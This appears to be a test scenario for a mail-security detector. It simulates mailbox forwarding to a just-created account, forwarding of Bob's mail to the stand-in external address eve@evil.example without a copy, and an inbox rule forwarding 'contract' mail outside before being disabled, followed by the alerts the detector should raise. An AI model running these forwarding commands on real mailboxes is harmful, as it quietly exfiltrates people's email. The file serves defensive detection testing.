# Forwarding of the mailbox: to an account made the day before, without a copy, taken away; and a rule switched off after its work.
domain fabrikam.com
person amy "Amy Adams"
person bob "Bob Brown"
person root "Rita Root" admin

sun 18:00 root audits "Add user" target "archive@fabrikam.com"
sun 18:10 root runs Set-Mailbox as admin Identity="amy@fabrikam.com" ForwardingAddress="archive@fabrikam.com"
sun 19:00 root runs Set-Mailbox as admin Identity="bob@fabrikam.com" ForwardingSmtpAddress="smtp:eve@evil.example" DeliverToMailboxAndForward="True"
sun 20:00 root runs Set-Mailbox as admin Identity="bob@fabrikam.com" DeliverToMailboxAndForward="False"
sun 21:00 root runs Set-Mailbox as admin Identity="bob@fabrikam.com" ForwardingSmtpAddress="$null"
sun 21:30 amy runs New-InboxRule Name="Out" SubjectContainsWords="contract" ForwardTo="eve@evil.example"
sun 22:00 amy runs Disable-InboxRule Identity="Out"
expect account-made "archive@fabrikam.com"
expect mailbox-forwards-to-new-account amy risk 65 says "made 10 minutes before"
expect mailbox-forwards-outside bob risk 65 says "eve@evil.example"
expect mailbox-forwarding-keeps-no-copy bob risk 65
expect mailbox-forwarding-changed bob says "was removed"
expect forward-outside amy
expect inbox-rule-ended amy says "was switched off"
